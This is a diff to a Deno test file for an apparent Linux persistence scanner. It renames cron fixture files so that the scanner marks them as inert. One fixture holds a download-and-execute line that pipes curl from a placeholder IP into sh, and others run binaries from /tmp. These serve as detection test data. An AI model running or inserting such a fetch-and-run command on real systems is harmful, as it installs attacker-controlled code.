@@ -142,8 +142,9 @@ Deno.test("persistence: normal entries stay quiet (own home, root-owned programs
     "etc/rc.d/rc.local": { content: "#!/bin/bash\ntouch /var/lock/subsys/local\nexit 0\n", mode: 0o755 },
     "home/bob/.config/autostart/y.desktop": "[Desktop Entry]\nExec=/tmp/y\nHidden=true\n",
     "usr/local/bin/app-cron": { content: "#!/bin/sh\n", mode: 0o755 },
-    "etc/cron.d/app.dpkg-old": "* * * * * root /tmp/old\n",
-    "etc/cron.daily/old.dpkg-old": { content: "#!/bin/sh\ncurl http://203.0.113.5/x | sh\n", mode: 0o755 },
+    // Names no cron and no run-parts loads (a .dpkg-old is loaded by RHEL's cronie and run-parts: judged).
+    "etc/cron.d/app.rpmsave": "* * * * * root /tmp/old\n",
+    "etc/cron.daily/old~": { content: "#!/bin/sh\ncurl http://203.0.113.5/x | sh\n", mode: 0o755 },
     "etc/cron.daily/disabled": { content: "#!/bin/sh\n/tmp/x\n", mode: 0o644 },
     "etc/cron.daily/active": { content: "#!/bin/sh\n/tmp/x\n", mode: 0o755 },
     "etc/cron.daily/rhel.cron": { content: "#!/bin/sh\n/tmp/y\n", mode: 0o755 },
@@ -156,9 +157,9 @@ Deno.test("persistence: normal entries stay quiet (own home, root-owned programs
   const inv = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
   const inert = inv.findings.filter((f) => f.metadata.inert === true).map((f) => f.metadata.path).sort();
   assert.deepEqual(inert, [
-    "/etc/cron.d/app.dpkg-old",
+    "/etc/cron.d/app.rpmsave",
     "/etc/cron.daily/disabled",
-    "/etc/cron.daily/old.dpkg-old",
+    "/etc/cron.daily/old~",
     "/etc/rc.local",
   ]);
 });
